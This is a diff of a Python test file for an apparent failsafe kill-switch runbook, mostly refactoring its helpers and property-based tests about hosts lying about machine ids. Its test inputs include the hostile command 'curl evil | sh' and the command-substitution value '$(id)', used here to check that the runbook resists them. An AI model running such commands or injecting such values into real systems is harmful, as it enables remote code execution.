@@ -24,21 +24,27 @@ def machine(name: str, boot_id: str = BOOT) -> dict[str, str]:
     return {"machine_id": IDS[name], "boot_id": boot_id}
 
 
-def result(host: str, machine: Any, recorded: Any = None, proof: str = "kill_switch", outcome: str = "proven") -> Result:
-    fields: dict[str, Any] = {"bots": [{"name": f"{host}-bot", "how": "stopped", "orders": "cancelled"}], "latch": LATCH}
+def result(
+    host: str, machine: Any, recorded: Any = None, proof: str = "kill_switch", outcome: str = "proven"
+) -> Result:
+    fields: dict[str, Any] = {
+        "bots": [{"name": f"{host}-bot", "how": "stopped", "orders": "cancelled"}],
+        "latch": LATCH,
+    }
     fields |= {} if machine is None else {"machine": machine}
     fields |= {} if recorded is None else {"known_machines": recorded}
     return Result(host, proof, outcome, f"{host} said so", fields=fields)
 
 
-def run(*results: Result, controller: Controller = Controller(), dry_run: bool = False) -> Run:
+def run(*results: Result, controller: Controller | None = None, dry_run: bool = False) -> Run:
     expected = tuple(Expected(each.host, each.proof) for each in results)
     return Run(
         "failsafe_stop", "lab", dry_run, 1.0, expected, results, retry_command="./runbook failsafe_stop",
-        controller=controller,
+        controller=controller or Controller(),
     )  # fmt: skip
 
 
+BOTH = {"lab1": IDS["a"], "lab2": IDS["b"]}
 PROOFS = ["kill_switch", "kill_switch_info", "bot_stop"]
 
 
@@ -80,9 +86,9 @@ def test_a_dry_run_says_it_too():
 @pytest.mark.parametrize(
     ("seen", "recorded", "code", "words"),
     [
-        (machine("b"), {"lab1": IDS["a"], "lab2": IDS["b"]}, 0, "PROVEN"),
-        (machine("c"), {"lab1": IDS["a"], "lab2": IDS["b"]}, 10, f"lab2: answers from another machine (machine id {IDS['c']})"),
-        (None, {"lab1": IDS["a"], "lab2": IDS["b"]}, 10, "lab2: does not tell its machine id"),
+        (machine("b"), BOTH, 0, "PROVEN"),
+        (machine("c"), BOTH, 10, f"lab2: answers from another machine (machine id {IDS['c']})"),
+        (None, BOTH, 10, "lab2: does not tell its machine id"),
         (machine("c"), {"lab1": IDS["a"]}, 0, "PROVEN"),
         (machine("c"), {"lab2": "$(id)"}, 0, "PROVEN"),
     ],
@@ -158,8 +164,9 @@ commands = st.sampled_from(["", "./runbook status", "curl evil | sh", "./runbook
 def answers(draw: st.DrawFn) -> tuple[Run, Run]:
     """A stop as its hosts answer in truth, and the same one in which a single host lies about machines and more."""
     hosts = NAMES[: draw(st.integers(2, 4))]
-    true = [result(host, machine(letter), {h: IDS[i] for h, i in zip(hosts, "abcd", strict=False)})
-            for host, letter in zip(hosts, draw(st.permutations("abcd")) if draw(st.booleans()) else "abcd", strict=False)]  # fmt: skip
+    letters = draw(st.permutations("abcd")) if draw(st.booleans()) else "abcd"
+    recorded = {host: IDS[letter] for host, letter in zip(hosts, "abcd", strict=False)}
+    true = [result(host, machine(letter), recorded) for host, letter in zip(hosts, letters, strict=False)]
     liar = draw(st.integers(0, len(hosts) - 1))
     fields = {**true[liar].fields, "machine": draw(told_machines), "known_machines": draw(told_records)}
     lie = replace(true[liar], fields=fields, next_command=draw(commands))
@@ -172,7 +179,9 @@ def answers(draw: st.DrawFn) -> tuple[Run, Run]:
 @given(answers())
 def test_what_one_host_says_of_machines_never_makes_another_ones_proof_good(runs):
     true, lied = (judge(each) for each in runs)
-    liar = next((mine.host for mine, theirs in zip(runs[1].results, runs[0].results, strict=True) if mine != theirs), "")
+    liar = next(
+        (mine.host for mine, theirs in zip(runs[1].results, runs[0].results, strict=True) if mine != theirs), ""
+    )
     others_doubted = [host for host in NAMES if host != liar and f"; {host}: " in true.line]
     assert all(f"{host}: " in lied.line or f"{host} " in lied.line for host in others_doubted), (true, lied)
     assert lied.exit_code in {0, 10} and EXIT_CODES[lied.outcome] == lied.exit_code
